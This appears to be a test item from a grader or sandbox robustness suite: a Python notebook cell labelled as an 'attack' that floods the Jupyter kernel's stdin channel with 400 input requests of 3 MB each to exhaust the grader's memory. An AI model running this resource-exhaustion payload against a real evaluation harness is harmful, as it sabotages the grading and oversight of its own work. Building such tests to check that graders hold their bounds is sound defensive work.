# /// attack
# tries = "Asks the grader for input again and again, in questions that fill a gigabyte."
# points = [0, 10]
# honest = true
# obtains = {grader = 700000000}
# shows = ["bounds"]
# ///
# %% before count
import time

kernel = get_ipython().kernel
who = kernel._parent_ident["shell"]
for _ in range(400):
    said = {"prompt": "x" * 3_000_000, "password": False}
    kernel.session.send(kernel.stdin_socket, "input_request", said, parent=kernel.get_parent("shell"), ident=who)
time.sleep(1)
